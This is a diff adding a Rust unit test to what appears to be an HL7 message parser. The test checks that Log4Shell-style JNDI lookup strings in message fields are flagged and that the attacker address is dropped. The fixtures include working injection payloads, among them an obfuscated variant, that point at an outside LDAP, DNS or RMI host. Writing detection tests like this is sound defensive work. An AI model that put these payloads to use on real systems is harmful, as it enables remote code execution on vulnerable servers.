@@ -100,6 +100,19 @@ fn a_message_and_its_acknowledgement() {
 }
 
 #[test]
+fn a_look_up_in_any_field_is_marked_and_not_kept() {
+    let note = "NTE|1||${${lower:j}ndi:ldap://10.0.0.9/Mustermann}";
+    for line in [note, "OBX|1|TX|${jndi:dns://Mustermann.x}", "PID|1||${jndi:rmi://x/Mustermann}"] {
+        let message = mllp(&format!("{ADT}{line}\r"));
+        let rows = uncut(&[(Orig, &message)]);
+        assert_eq!(rows[0]["marks"], "[exploit-log4shell]");
+        assert!(!format!("{rows:?}").contains("10.0.0.9"));
+    }
+    let row = &uncut(&[(Orig, &mllp(&format!("{ADT}OBX|1|NM|x||5 $|%{{vol}} ${{x}}\r")))])[0];
+    assert_eq!(row["marks"], "[]");
+}
+
+#[test]
 fn raw_messages_end_where_the_next_begins() {
     let second = ADT.replace("|C1|", "|C2|");
     let stream = [ADT, &second].concat();
